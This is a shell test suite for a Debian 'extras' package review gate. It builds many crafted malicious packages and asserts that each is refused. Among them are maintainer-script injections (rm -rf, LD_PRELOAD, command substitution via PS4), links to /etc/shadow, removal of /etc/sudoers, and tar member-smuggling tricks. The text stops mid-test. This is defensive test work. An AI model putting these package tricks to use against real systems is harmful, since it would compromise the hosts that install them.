#!/bin/sh
# The review gate against a corpus of bad packages: each is a good
# package, crafted here from an inline tree and built with dpkg-deb, with
# one thing wrong.  extras-review refuses the .deb (exit 1) and
# dh_extras_check, run by hand in a source tree holding the same staged
# tree as debian/PKG/, fails the same way, both naming the rule broken;
# truncated, corrupted and malformed packages are bad input (exit 2).

. "$TOP/tests/lib.sh"
. "$TOP/tests/convert-fixture.sh"
. "$TOP/tests/review-lib.sh"

# retar DEB OUT WHICH CODE: DEB with its WHICH.tar (control or data)
# rewritten by the Python CODE, which edits "members", a list of
# [TarInfo, bytes or None], with add(name, data=b"", type=REG, link="",
# uid=0, gid=0, uname="root", gname="root") to append one; written as OUT.
retar () {
	PYTHONPATH="$TOP/tests" python3 - "$@" <<-\EOF
	import io, sys, tarfile
	from debar import read_ar, write_ar
	src, dst, which, code = sys.argv[1:5]
	ar = read_ar(src)
	REG, DIR, SYM, LNK = tarfile.REGTYPE, tarfile.DIRTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
	for m in ar:
	    if not m[0].startswith(which + ".tar"):
	        continue
	    tin = tarfile.open(fileobj=io.BytesIO(m[1]))
	    members = [[ti, tin.extractfile(ti).read() if ti.isfile() else None]
	               for ti in tin.getmembers()]
	    def add(name, data=b"", type=REG, link="", uid=0, gid=0,
	            uname="root", gname="root", mode=0o644):
	        ti = tarfile.TarInfo(name)
	        ti.type, ti.linkname, ti.mode = type, link, mode
	        ti.uid, ti.gid, ti.uname, ti.gname = uid, gid, uname, gname
	        ti.size = len(data) if type == REG else 0
	        members.append([ti, data if type == REG else None])
	    exec(code)
	    out = io.BytesIO()
	    with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.GNU_FORMAT) as t:
	        for ti, data in members:
	            t.addfile(ti, io.BytesIO(data) if data is not None else None)
	    m[1] = out.getvalue()
	write_ar(dst, ar)
	EOF
}

# scratch DIR: an empty system for dpkg --root=DIR, with the files an
# attack aims at.
scratch () {
	rm -rf "$1" && mkdir -p "$1/var/lib/dpkg/info" "$1/var/lib/dpkg/updates" \
		"$1/var/log" "$1/usr/bin" "$1/etc" &&
	: >"$1/var/lib/dpkg/status" &&
	echo "root:x:0:0:root:/root:/bin/sh" >"$1/etc/passwd" &&
	echo "root:*:1::::::" >"$1/etc/shadow" && chmod 640 "$1/etc/shadow"
}

# dpkg_in DIR ACTION DEB...: what dpkg does with the packages in DIR,
# running no maintainer script of the gate's test packages.
dpkg_in () {
	d=$1; shift &&
	dpkg --root="$d" --force-not-root --force-depends \
		--force-script-chrootless --force-unsafe-io "$@"
}

# unscripted TREE: TREE without maintainer scripts, which dpkg_in would
# run on this system.
unscripted () {
	rm -f "$1/DEBIAN/postinst" "$1/DEBIAN/postrm"
}

mkdir -p bad src

test_expect_success 'the good package of the corpus is accepted by both' '
	t=$(case_tree good) && build $t good.deb &&
	extras-review good.deb >out && grep_q "extras-demo 1.0 accepted" out &&
	source_tree $t src/good && (cd src/good && dh_extras_check)
'

test_expect_success 'the generated scripts: postinst and postrm only, hardened' '
	t=$(case_tree scripts-none) &&
	test -z "$(generated preinst)$(generated prerm)$(generated config)" &&
	head -n 1 $t/DEBIAN/postinst | grep_q "^#!/bin/sh$" - &&
	grep_q "^/sbin/apparmor_parser\|^ *if /usr/bin/aa-enabled --quiet" $t/DEBIAN/postinst &&
	! grep -q "|| true" $t/DEBIAN/postinst &&
	grep_q "^PATH=/usr/sbin:/usr/bin:/sbin:/bin$" $t/DEBIAN/postinst &&
	grep_q "^set -e$" $t/DEBIAN/postrm
'

test_expect_success 'a postinst in ordinary shell around the snippet is refused by both' '
	t=$(case_tree ordinary) &&
	{ generated postinst | sed -n "1,/^\$/p" &&
	  echo "PKG=extras-demo" && echo "say () { echo \"\$PKG: \$1\" >&2; }" &&
	  generated postinst | sed "1,/^\$/d"
	} >$t/DEBIAN/postinst &&
	refused ordinary 1 ": script: DEBIAN/postinst: differs from the one dh-extras generates from line 10"
'

n=0
# bad NAME STATUS PATTERN [deb] -- COMMANDS: one case of the corpus:
# COMMANDS break the good tree $t; the package is refused.  With
# $prereq set, only where that prerequisite holds.
bad () {
	name=$1 status=$2 pattern=$3 only=
	shift 3 &&
	if [ "$1" = deb ]; then only=deb; shift; fi &&
	shift &&
	n=$((n + 1)) &&
	test_expect_success ${prereq:-} "refused: $name" "
		t=\$(case_tree $name) && $* &&
		refused $name $status '$pattern' $only
	"
}

# Device nodes need CAP_MKNOD, which a user namespace (autopkgtest's
# unshare testbed) does not give.
if mknod "$TRASH/.mknod-probe" c 1 3 2>/dev/null; then
	test_set_prereq MKNOD
	rm -f "$TRASH/.mknod-probe"
fi

bad name-prefix 1 ': name: package name .demo. does not start' -- \
	'field $t Package demo && field $t Source extras-demo'
bad source-prefix 1 ': name: source name .demo-src. does not start' -- \
	'field $t Source demo-src'
bad outside-namespace 1 ': namespace: usr/bin/demo: is outside the namespace' -- \
	'mkdir -p $t/usr/bin && cp $t/$NS/bin/demo $t/usr/bin/demo'
bad etc-outside 1 ': namespace: etc/demo.conf: is outside the namespace' -- \
	'echo x >$t/etc/demo.conf'
bad export-unrenamed 1 ': export: usr/share/applications/demo.desktop: exported without its extras- name' -- \
	'mv $t/usr/share/applications/extras-demo.desktop $t/usr/share/applications/demo.desktop'
bad foreign-doc 1 ': namespace: usr/share/doc/bash/README: is outside the namespace /opt/extras.ubuntu.com/demo and not an export (it belongs in /opt/extras.ubuntu.com/demo/share/doc/bash/README)' -- \
	'mkdir -p $t/usr/share/doc/bash && echo x >$t/usr/share/doc/bash/README'
bad stray-directory 1 ': namespace: var/lib/demo: is outside the namespace' -- \
	'mkdir -p $t/var/lib/demo'
bad newline-name 1 ': namespace: usr/share/evil.x0aname: is outside the namespace' -- \
	'mkdir -p $t/usr/share && touch "$t/usr/share/evil
name"'
bad setuid 1 ': mode: '"$NS"'/bin/demo: is setuid' -- \
	'chmod 4755 $t/$NS/bin/demo'
bad setgid 1 ': mode: '"$NS"'/bin/demo: is setgid' -- \
	'chmod 2755 $t/$NS/bin/demo'
bad world-writable 1 ': mode: '"$NS"'/share/demo/data.txt: is world-writable' -- \
	'chmod 666 $t/$NS/share/demo/data.txt'
bad fifo 1 ': special: '"$NS"'/share/demo/pipe: is a FIFO' -- \
	'mkfifo $t/$NS/share/demo/pipe'
prereq=MKNOD bad device 1 ': special: '"$NS"'/share/demo/null: is a character device' -- \
	'mknod $t/$NS/share/demo/null c 1 3'
bad symlink-absolute 1 ': symlink: '"$NS"'/share/demo/shadow: -> /etc/shadow resolves to /etc/shadow' -- \
	'ln -s /etc/shadow $t/$NS/share/demo/shadow'
bad symlink-relative 1 ': symlink: '"$NS"'/share/demo/up: .* resolves to /etc/passwd' -- \
	'ln -s ../../../../../etc/passwd $t/$NS/share/demo/up'
bad symlink-through-link 1 ': symlink: '"$NS"'/share/demo/b: -> a/../etc/shadow resolves to /etc/shadow' -- \
	'ln -s /usr $t/$NS/share/demo/a && ln -s a/../etc/shadow $t/$NS/share/demo/b'
bad symlink-usr-local 1 ': symlink: '"$NS"'/bin/tool: .* resolves to /usr/local/bin/tool' -- \
	'ln -s /usr/local/bin/tool $t/$NS/bin/tool'
bad profile-missing 1 ': profile: '"$NS"'/bin/demo: an executable, and no package' -- \
	'rm $t/$PROFILE'
bad profile-edited 1 ': profile: '"$PROFILE"': differs from the profile the declaration yields' -- \
	'sed -i "s|^}|  /** rwlkmix,\n}|" $t/$PROFILE'
bad profile-other-declaration 1 ': profile: '"$PROFILE"': differs' -- \
	'printf "app: demo\nprivileges:\n  - network\n  - x11\n" >$t/DEBIAN/extras.yaml'
bad profile-unlisted-executable 1 ': profile: '"$NS"'/bin/helper: an executable the profile of extras-demo does not list' -- \
	'cp $t/$NS/bin/demo $t/$NS/bin/helper'
bad profile-stray 1 ': namespace: etc/apparmor.d/usr.bin.demo: only the app.s profile' -- \
	'cp $t/$PROFILE $t/etc/apparmor.d/usr.bin.demo'
bad reserved-privilege 1 ': profile: .*reserved' deb -- \
	'printf "app: demo\nprivileges:\n  - user-files\n" >$t/DEBIAN/extras.yaml &&
	 extras-profile --allow-reserved --app demo --executable /$NS/bin/demo $t/DEBIAN/extras.yaml >$t/$PROFILE'
bad declaration-unknown-key 1 ': declaration: extras.yaml:2: ' -- \
	'printf "app: demo\nsandbox: off\n" >$t/DEBIAN/extras.yaml'
# The maintainer scripts: each of these ran the uploader's code as root
# at install, or left the app unconfined, when the gate judged author
# shell by a grammar.  Any byte of difference from the generated script
# is refused now, whatever the shell would make of it.
bad script-command 1 ': script: DEBIAN/postinst: differs from the one dh-extras generates from line 3' -- \
	'sed -i "2a rm -rf /home" $t/DEBIAN/postinst'
bad script-substitution 1 ': script: DEBIAN/postrm: differs from the one dh-extras generates from line 3' -- \
	'sed -i "2a echo \$(rm -rf /)" $t/DEBIAN/postrm'
bad script-integration 1 ': script: DEBIAN/postinst: differs .* from line 3' -- \
	'sed -i "2a update-alternatives --install /usr/bin/demo demo /$NS/bin/demo 10" $t/DEBIAN/postinst'
bad script-path 1 ': script: DEBIAN/postinst: differs .* from line 9' -- \
	'sed -i "/^unset /a PATH=/$NS/bin:\$PATH" $t/DEBIAN/postinst'
bad script-ld-preload 1 ': script: DEBIAN/postinst: differs .* from line 9' -- \
	'sed -i "/^unset /a export LD_PRELOAD=/$NS/lib/evil.so" $t/DEBIAN/postinst'
bad script-ps4 1 ': script: DEBIAN/postinst: differs .* from line 4' -- \
	'sed -i "s/^set -e\$/PS4=\x27\$(touch \/tmp\/pwned)\x27; set -ex/" $t/DEBIAN/postinst'
bad script-printf-v 1 ': script: DEBIAN/postinst: differs .* from line 9' -- \
	'sed -i "/^unset /a printf -v \x27x[\$(id)]\x27 %s y" $t/DEBIAN/postinst'
bad script-test-v 1 ': script: DEBIAN/postinst: differs .* from line 9' -- \
	'sed -i "/^unset /a [ -v \x27x[\$(id)]\x27 ] || :" $t/DEBIAN/postinst'
bad script-shadow-function 1 ': script: DEBIAN/postinst: differs .* from line 9' -- \
	'sed -i "/^unset /a apparmor_parser () { :; }" $t/DEBIAN/postinst'
bad script-py3compile 1 ': script: DEBIAN/postinst: differs .* from line' -- \
	'printf "if command -v py3compile >/dev/null 2>&1; then\n\tpy3compile -p extras-demo -f /$NS/lib\nfi\n" >>$t/DEBIAN/postinst'
bad script-unconfined 1 ': script: DEBIAN/postinst: differs .* from line 2' -- \
	'printf "#!/bin/sh\nset -e\n" >$t/DEBIAN/postinst'
bad script-no-postinst 1 ': script: DEBIAN/postinst: missing: nothing loads the app.s AppArmor profile.*unconfined' -- \
	'rm $t/DEBIAN/postinst'
bad script-no-postrm 1 ': script: DEBIAN/postrm: missing: nothing unloads the app.s AppArmor profile' -- \
	'rm $t/DEBIAN/postrm'
bad script-exit-first 1 ': script: DEBIAN/postinst: differs .* from line 3' -- \
	'sed -i "2a exit 0" $t/DEBIAN/postinst'
bad script-edited-snippet 1 ': script: DEBIAN/postrm: differs .* from line 2[0-9]' -- \
	'sed -i "s|rm -f \"/etc/apparmor.d/local|rm -rf \"/etc/apparmor.d/local|" $t/DEBIAN/postrm'
bad script-init-snippet 1 ': script: DEBIAN/postinst: differs .* from line 2[0-9]' -- \
	'{ echo "# Automatically added by dh_installinit/13"
	   sed "s/#SCRIPT#/demo/; s/#INITPARMS#/defaults/" /usr/share/debhelper/autoscripts/postinst-init
	   echo "# End automatically added section"; } >>$t/DEBIAN/postinst'
bad script-preinst 1 ': script: DEBIAN/preinst: an extras package runs no maintainer script but the ones dh-extras generates, and extras-demo has no preinst' -- \
	'printf "#!/usr/bin/perl\nexit 0;\n" >$t/DEBIAN/preinst && chmod 755 $t/DEBIAN/preinst'
bad script-prerm-generated 1 ': script: DEBIAN/prerm: .* extras-demo has no prerm' -- \
	'generated postrm >$t/DEBIAN/prerm && chmod 755 $t/DEBIAN/prerm'
bad script-other-package 1 ': script: DEBIAN/postinst: differs .* from line 2' -- \
	'generated postinst extras-other >$t/DEBIAN/postinst'
bad triggers 1 ': control-file: DEBIAN/triggers: line 1: .interest /usr/lib.' -- \
	'echo "interest /usr/lib" >$t/DEBIAN/triggers'
bad shlibs 1 ': control-file: DEBIAN/shlibs: an extras package ships no libraries' -- \
	'echo "libdemo 1 extras-demo" >$t/DEBIAN/shlibs'
bad symbols 1 ': control-file: DEBIAN/symbols: an extras package ships no libraries' -- \
	'echo "libdemo.so.1 extras-demo #MINVER#" >$t/DEBIAN/symbols'
bad debconf-config 1 ': script: DEBIAN/config: .* extras-demo has no config' -- \
	'printf "#!/bin/sh\n" >$t/DEBIAN/config && chmod 755 $t/DEBIAN/config'
bad pre-depends 1 ': relation: Pre-Depends' -- \
	'field $t Pre-Depends dpkg'
bad conflicts 1 ': relation: Conflicts: bash: not a package of the source' -- \
	'field $t Conflicts bash'
bad breaks 1 ': relation: Breaks: libc6: not a package' -- \
	'field $t Breaks "libc6 (<< 9)"'
bad replaces 1 ': relation: Replaces: coreutils: not a package' -- \
	'field $t Replaces coreutils'
bad provides 1 ': relation: Provides: x-terminal-emulator: not a package' -- \
	'field $t Provides x-terminal-emulator'
bad essential 1 ': control: Essential: yes' -- \
	'field $t Essential yes'
bad protected 1 ': control: Protected: yes' -- \
	'field $t Protected yes'
bad priority 1 ': control: Priority: required: must be optional' -- \
	'field $t Priority required'

# What dpkg does with members, links and conffiles: each hostile package
# below is refused, and where it shows the danger, dpkg installing it into
# a scratch root proves what would land outside the namespace.

bad root-declared 1 ': declaration: extras.yaml:2: root ./etc. ' -- \
	'printf "app: cron.d\nroot: /etc\n" >$t/DEBIAN/extras.yaml &&
	 mkdir -p $t/etc/cron.d && echo "* * * * * root sh -c evil" >$t/etc/cron.d/evil'
bad root-usr-share 1 ': declaration: extras.yaml:2: root ./usr/share. is not the store.s namespace root /opt/extras.ubuntu.com' -- \
	'printf "app: applications\nroot: /usr/share\n" >$t/DEBIAN/extras.yaml &&
	 echo "[Desktop Entry]" >$t/usr/share/applications/evil.desktop'
bad root-other 1 ': declaration: extras.yaml:2: root ./opt/extras-test. is not the store.s' -- \
	'printf "app: demo\nroot: /opt/extras-test\n" >$t/DEBIAN/extras.yaml'

test_expect_success '--root: the store.s root, given to both front ends, not the package.s' '
	t=$(case_tree other-root) && NS2=opt/extras-test/demo &&
	mkdir -p $t/opt/extras-test && mv $t/opt/extras.ubuntu.com/demo $t/$NS2 &&
	rmdir $t/opt/extras.ubuntu.com &&
	printf "app: demo\nroot: /opt/extras-test\nprivileges:\n  - network\n" >$t/DEBIAN/extras.yaml &&
	rm $t/$PROFILE && P2=etc/apparmor.d/opt.extras-test.demo &&
	extras-profile --app demo --executable "/$NS2/bin/demo" $t/DEBIAN/extras.yaml >$t/$P2 &&
	echo "/$P2" >$t/DEBIAN/conffiles &&
	sed -i "s/opt\.extras\.ubuntu\.com\.demo/opt.extras-test.demo/g" $t/DEBIAN/postinst $t/DEBIAN/postrm &&
	sed -i "s|/$NS/|/$NS2/|" $t/usr/share/applications/extras-demo.desktop &&
	build $t other-root.deb &&
	extras-review --root /opt/extras-test other-root.deb >out &&
	grep_q " accepted$" out &&
	expect_status 1 extras-review other-root.deb >out &&
	grep_q "root ./opt/extras-test. is not the store.s namespace root /opt/extras.ubuntu.com" out &&
	expect_status 1 extras-review --root /opt/extras-test good.deb >out &&
	grep_q "opt/extras.ubuntu.com/demo/bin/demo: is outside the namespace /opt/extras-test/demo" out &&
	source_tree $t src/other-root &&
	(cd src/other-root && dh_extras_check --root /opt/extras-test &&
	 expect_status 1 dh_extras_check >out 2>&1 && grep_q "is not the store.s namespace root" out) &&
	expect_status 2 extras-review --root /etc good.deb 2>err &&
	grep_q "root ./etc. lies in a system directory" err
'

bad owner 1 ': owner: '"$NS"'/share/demo/data.txt: is owned by .*(1000:1000), not root' -- \
	'owners=keep && chown 1000:1000 $t/$NS/share/demo/data.txt'

bad conffile-foreign 1 ': conffile: /etc/passwd: DEBIAN/conffiles:2: not a regular file extras-demo ships' -- \
	'echo /etc/passwd >>$t/DEBIAN/conffiles'
bad conffile-remove-on-upgrade 1 ': conffile: /etc/sudoers: DEBIAN/conffiles:2: remove-on-upgrade outside the namespace' -- \
	'echo "remove-on-upgrade /etc/sudoers" >>$t/DEBIAN/conffiles'
bad conffile-unknown-flag 1 ': conffile: DEBIAN/conffiles: line 2: unknown flag' -- \
	'echo "obsolete /$NS/share/demo/data.txt" >>$t/DEBIAN/conffiles'
bad conffile-spelling 1 ': conffile: /./'"$NS"'/share/demo/data.txt: DEBIAN/conffiles:2: not a canonical path' -- \
	'echo "/./$NS/share/demo/data.txt" >>$t/DEBIAN/conffiles'
bad conffile-directory 1 ': conffile: /'"$NS"'/share/demo: DEBIAN/conffiles:2: not a regular file' -- \
	'echo "/$NS/share/demo" >>$t/DEBIAN/conffiles'

test_expect_success 'accepted: a remove-on-upgrade conffile inside the namespace' '
	t=$(case_tree conffile-own) &&
	echo "remove-on-upgrade /$NS/etc/old.conf" >>$t/DEBIAN/conffiles &&
	build $t conffile-own.deb && extras-review conffile-own.deb >out &&
	grep_q " accepted$" out
'

test_expect_success 'dpkg: a foreign conffile is registered as the package.s' '
	t=$(case_tree conffile-dpkg) && unscripted $t &&
	echo /etc/passwd >>$t/DEBIAN/conffiles && build $t conffile-dpkg.deb &&
	expect_status 1 extras-review conffile-dpkg.deb >out &&
	scratch root && dpkg_in root --unpack conffile-dpkg.deb &&
	dpkg_in root -s extras-demo >status && grep_q "^ /etc/passwd newconffile$" status
'

test_expect_success 'dpkg: a remove-on-upgrade conffile takes a system file away' '
	t=$(case_tree remove-dpkg) && unscripted $t &&
	echo "remove-on-upgrade /etc/sudoers" >>$t/DEBIAN/conffiles &&
	build $t remove-dpkg.deb &&
	expect_status 1 extras-review remove-dpkg.deb >out &&
	scratch root && echo "root ALL=(ALL) ALL" >root/etc/sudoers &&
	dpkg_in root --unpack remove-dpkg.deb &&
	test ! -e root/etc/sudoers && test -f root/etc/sudoers.dpkg-old
'

# Hard links: dpkg links to the target as installed, and applies the
# link member.s owner and mode to that inode.
hardlinked () {
	t=$(case_tree "$1") && build $t "bad/$1.0.deb" &&
	retar "bad/$1.0.deb" "bad/$1.deb" data "$2"
}

test_expect_success 'refused: a hard link to a system file' '
	hardlinked hardlink-system "add(\"./$NS/share/demo/shadow\", type=LNK, link=\"./etc/shadow\", mode=0o644)" &&
	expect_status 1 extras-review bad/hardlink-system.deb >out &&
	grep_q ": hardlink: $NS/share/demo/shadow: => /etc/shadow: not a regular file shipped before it" out &&
	scratch root && dpkg_in root --unpack bad/hardlink-system.deb &&
	test "$(stat -c %h root/etc/shadow)" -eq 2 &&
	test "$(stat -c %a root/etc/shadow)" = 644
'

test_expect_success 'refused: a hard link to an export of the package' '
	hardlinked hardlink-export "add(\"./$NS/share/demo/c\", type=LNK, link=\"./usr/share/doc/extras-demo/copyright\")" &&
	expect_status 1 extras-review bad/hardlink-export.deb >out &&
	grep_q ": hardlink: $NS/share/demo/c: => /usr/share/doc/extras-demo/copyright: a hard link to a file outside the namespace" out
'

# dh_extras_icons once linked an export to its copy in the namespace:
# dpkg failed with "Invalid cross-device link" where /opt is its own mount.
test_expect_success 'refused: an export hard-linked to a file of the namespace' '
	hardlinked hardlink-out "add(\"./usr/share/doc/extras-demo/data.txt\", type=LNK, link=\"./$NS/share/demo/data.txt\")" &&
	expect_status 1 extras-review bad/hardlink-out.deb >out &&
	grep_q ": hardlink: usr/share/doc/extras-demo/data.txt: => /$NS/share/demo/data.txt: a hard link outside the namespace /$NS to a file in it, which dpkg cannot make where they are different file systems: ship a copy" out
'

test_expect_success 'refused: a hard link before its target' '
	hardlinked hardlink-early "members.insert(3, members.pop())
add(\"./$NS/share/demo/late\", data=b\"x\")
add(\"./$NS/share/demo/early\", type=LNK, link=\"$NS/share/demo/late\")
members.insert(len(members) - 3, members.pop())" &&
	expect_status 1 extras-review bad/hardlink-early.deb >out &&
	grep_q ": hardlink: $NS/share/demo/early: => /$NS/share/demo/late: not a regular file shipped before it" out
'

test_expect_success 'accepted: a hard link to a file of the namespace' '
	hardlinked hardlink-own "add(\"./$NS/share/demo/copy.txt\", type=LNK, link=\"./$NS/share/demo/data.txt\")" &&
	extras-review bad/hardlink-own.deb >out && grep_q " accepted$" out
'

# Within the namespace only: an export linked to a namespace file is
# refused (dpkg cannot link across file systems, see above).
test_expect_success 'accepted by both: hard links between files of the tree' '
	t=$(case_tree tree-links) &&
	ln $t/$NS/share/demo/data.txt $t/$NS/share/demo/copy.txt &&
	build $t tree-links.deb &&
	dpkg-deb --fsys-tarfile tree-links.deb | tar -tvf - | grep_q "^h.* link to " - &&
	extras-review tree-links.deb >out && grep_q " accepted$" out &&
	source_tree $t src/tree-links && (cd src/tree-links && dh_extras_check)
'

# Duplicates: the checks read the first member, dpkg keeps the last.
test_expect_success 'refused: a file, then a hard link at the same path' '
	hardlinked file-then-link "add(\"$NS/share/demo/data.txt\", type=LNK, link=\"./etc/shadow\")" &&
	expect_status 1 extras-review bad/file-then-link.deb >out &&
	grep_q ": duplicate: $NS/share/demo/data.txt: 2 members of data.tar.gz for this path" out
'

test_expect_success 'refused: one data.tar path in every spelling dpkg takes for it' '
	hardlinked spellings "
for name in (\"$NS/share/demo/data.txt\", \"/$NS/share/demo/data.txt\",
             \"//$NS/share/demo/data.txt\", \"./././$NS/share/demo/data.txt\"):
    add(name, data=b\"evil\")" &&
	expect_status 1 extras-review bad/spellings.deb >out &&
	grep_q ": duplicate: $NS/share/demo/data.txt: 5 members of data.tar.gz" out
'

test_expect_success 'refused: two control files, and dpkg reads the second' '
	t=$(case_tree control-twice) && build $t bad/control-twice.0.deb &&
	retar bad/control-twice.0.deb bad/control-twice.deb control "
data = [d for ti, d in members if ti.name == \"./control\"][0]
add(\"control\", data=data + b\"Essential: yes\\n\")" &&
	expect_status 1 extras-review bad/control-twice.deb >out &&
	grep_q ": duplicate: control: 2 members of control.tar.gz" out &&
	test "$(dpkg-deb -f bad/control-twice.deb Essential)" = yes
'

test_expect_success 'refused: a directory member twice, as ./x/ and x//./' '
	hardlinked dir-twice "add(\"$NS/share/demo//.\", type=DIR, mode=0o755)" &&
	expect_status 1 extras-review bad/dir-twice.deb >out &&
	grep_q ": duplicate: $NS/share/demo: 2 members" out
'

test_expect_success 'refused: a member owned by another user, as tar records it' '
	hardlinked owner-tar "add(\"./$NS/share/demo/mine\", data=b\"x\", uid=0, uname=\"nobody\")" &&
	expect_status 1 extras-review bad/owner-tar.deb >out &&
	grep_q ": owner: $NS/share/demo/mine: is owned by nobody:root (0:0), not root" out
'

# Writing through a symlink: a package of the upload makes a directory of
# the namespace a link out of it, another ships a file below it.
test_expect_success 'refused: a sibling writes through a link that leaves the namespace' '
	t=$(case_tree sym-a) && ln -s ../../../../usr/bin $t/$NS/share/bin &&
	u=bad/sym-b && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/share/bin &&
	printf "#!/bin/sh\necho evil\n" >$u/$NS/share/bin/evil &&
	sed -e "s/^Package: .*/Package: extras-demo-data/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ &&
	build $t sym-a.deb && build $u sym-b.deb &&
	extras-review sym-a.deb >out && grep_q " accepted$" out &&
	expect_status 1 extras-review sym-a.deb sym-b.deb >out &&
	grep_q "sym-b.deb: symlink: $NS/share/bin/evil: lies below /$NS/share/bin, a symbolic link of extras-demo to /usr/bin" out &&
	rm -rf src/sym && mkdir -p src/sym/debian &&
	printf "Source: extras-demo\n\nPackage: extras-demo\nArchitecture: all\n\nPackage: extras-demo-data\nArchitecture: all\n" \
		>src/sym/debian/control &&
	cp -a $t src/sym/debian/extras-demo && cp -a $u src/sym/debian/extras-demo-data &&
	(cd src/sym && expect_status 1 dh_extras_check) >src/sym.out 2>&1 &&
	grep_q "debian/extras-demo-data: symlink: $NS/share/bin/evil: lies below /$NS/share/bin" src/sym.out &&
	unscripted $t && build $t sym-a.deb &&
	scratch root && dpkg_in root --unpack sym-a.deb && dpkg_in root --unpack sym-b.deb &&
	test -f root/usr/bin/evil
'

test_expect_success 'refused: the next version writes through a link of the published one' '
	t=$(case_tree sym-v2) && field $t Version 1.1 &&
	mkdir -p $t/$NS/share/bin && echo evil >$t/$NS/share/bin/evil &&
	build $t sym-v2.deb &&
	extras-review sym-v2.deb >out && grep_q " accepted$" out &&
	expect_status 1 extras-review --previous sym-a.deb sym-v2.deb >out &&
	grep_q "sym-v2.deb: symlink: $NS/share/bin/evil: lies below /$NS/share/bin, a symbolic link of extras-demo (replaced) to /usr/bin" out &&
	unscripted $t && build $t sym-v2.deb &&
	scratch root && dpkg_in root --unpack sym-a.deb && dpkg_in root --unpack sym-v2.deb &&
	test -f root/usr/bin/evil
'

test_expect_success 'refused: the root of every namespace made a link' '
	u=bad/above && rm -rf $u && mkdir -p $u/DEBIAN $u/opt $u/usr/share/doc/extras-demo &&
	sed -n "/^Package:/,/^Architecture:/p" bad/good/DEBIAN/control >$u/DEBIAN/control &&
	printf "Maintainer: a <a@example.org>\nDescription: x\n x\n" >>$u/DEBIAN/control &&
	echo "app: demo" >$u/DEBIAN/extras.yaml &&
	ln -s ../usr/lib $u/opt/extras.ubuntu.com &&
	echo c >$u/usr/share/doc/extras-demo/copyright &&
	build $u above.deb &&
	expect_status 1 extras-review above.deb >out &&
	grep_q ": namespace: opt/extras.ubuntu.com: lies above the namespace /$NS and is not a directory" out &&
	source_tree $u src/above && (cd src/above && expect_status 1 dh_extras_check) >src/above.out 2>&1 &&
	grep_q ": namespace: opt/extras.ubuntu.com: lies above the namespace" src/above.out
'

test_expect_success 'accepted: a sibling writes through a link inside the namespace' '
	t=$(case_tree sym-in) && ln -s demo $t/$NS/share/inner &&
	u=bad/sym-in-b && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/share/inner &&
	echo more >$u/$NS/share/inner/more.txt &&
	sed -e "s/^Package: .*/Package: extras-demo-data/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ &&
	build $t sym-in-a.deb && build $u sym-in-b.deb &&
	extras-review sym-in-a.deb sym-in-b.deb >out &&
	test "$(grep -c " accepted$" out)" -eq 2
'

test_expect_success 'refused: a link that leaves the namespace through a sibling.s link' '
	t=$(case_tree sym-chain) && ln -s inner/ssl $t/$NS/share/conf &&
	u=bad/sym-chain-b && rm -rf $u && mkdir -p $u/DEBIAN $u/$NS/share &&
	ln -s ../../../../etc $u/$NS/share/inner &&
	sed -e "s/^Package: .*/Package: extras-demo-data/" $t/DEBIAN/control >$u/DEBIAN/control &&
	cp $t/DEBIAN/extras.yaml $u/DEBIAN/ &&
	build $t sym-chain-a.deb && build $u sym-chain-b.deb &&
	extras-review sym-chain-a.deb >out && grep_q " accepted$" out &&
	expect_status 1 extras-review sym-chain-a.deb sym-chain-b.deb >out &&
	grep_q "sym-chain-a.deb: symlink: $NS/share/conf: -> inner/ssl resolves to /etc/ssl" out
'

test_expect_success 'bad input: a PAX header, which dpkg does not read' '
	t=$(case_tree pax) && build $t bad/pax.0.deb &&
	PYTHONPATH="$TOP/tests" python3 - bad/pax.0.deb bad/pax.deb <<-\EOF &&
	import io, sys, tarfile
	from debar import read_ar, write_ar
	src, dst = sys.argv[1:3]
	ar = read_ar(src)
	for m in ar:
	    if m[0].startswith("data.tar"):
	        tin = tarfile.open(fileobj=io.BytesIO(m[1]))
	        out = io.BytesIO()
	        with tarfile.open(fileobj=out, mode="w:gz", format=tarfile.PAX_FORMAT) as t:
	            for ti in tin.getmembers():
	                t.addfile(ti, tin.extractfile(ti) if ti.isfile() else None)
	            ti = tarfile.TarInfo("./etc/cron.d/evil")
	            ti.pax_headers = {"path": "./opt/extras.ubuntu.com/demo/share/demo/ok"}
	            t.addfile(ti, io.BytesIO(b""))
	        m[1] = out.getvalue()
	write_ar(dst, ar)
	EOF
	expect_status 2 extras-review bad/pax.deb 2>err &&
	grep_q "^extras-review: error: bad/pax.deb: data.tar.gz: unsupported PAX tar header type .x.$" err &&
	scratch root && ! dpkg_in root --unpack bad/pax.deb >out 2>&1 &&
	grep_q "unsupported PAX tar header" out
'

# dpkg 1.21 allocates the 8 GiB (untouched, so it succeeds) and, the data
# ending before, unpacks an empty package: refused here before libdpkg's
# tar reader allocates anything.
test_expect_success 'bad input: a GNU long name of 8 GiB, refused before it is allocated' '
	t=$(case_tree longname) && build $t bad/longname.0.deb &&
	PYTHONPATH="$TOP/tests" python3 - bad/longname.0.deb bad/longname.deb <<-\EOF &&
	import sys
	from debar import read_ar, write_ar
	src, dst = sys.argv[1:3]
	h = bytearray(512)
	h[0:13] = b"././@LongLink"
	h[100:108] = b"0000644\0"
	h[124:136] = b"%011o\0" % (8 << 30)
	h[156:157] = b"L"
	h[257:265] = b"ustar  \0"
	h[148:156] = b" " * 8
	h[148:156] = b"%06o\0 " % sum(h)
	ar = [m for m in read_ar(src) if not m[0].startswith("data.tar")]
	ar.append(["data.tar", bytes(h) + b"x" * 512 + bytes(1024)])
	write_ar(dst, ar)
	EOF
	expect_status 2 extras-review bad/longname.deb 2>err &&
	grep_q "^extras-review: error: bad/longname.deb: data.tar: a GNU long name of 8589934592 bytes$" err
'

test_expect_success 'bad input: an ar member size dpkg does not read, in its words' '
	cp good.deb bad/arsize.deb &&
	printf x | dd of=bad/arsize.deb bs=1 seek=$((72 + 48)) conv=notrunc 2>/dev/null &&
	expect_status 2 extras-review bad/arsize.deb 2>err &&
	grep_q "^extras-review: error: bad/arsize.deb: invalid character .x. in archive .bad/arsize.deb. member .control.tar[.a-z]*. size$" err &&
	! dpkg-deb --info bad/arsize.deb >out 2>&1 &&
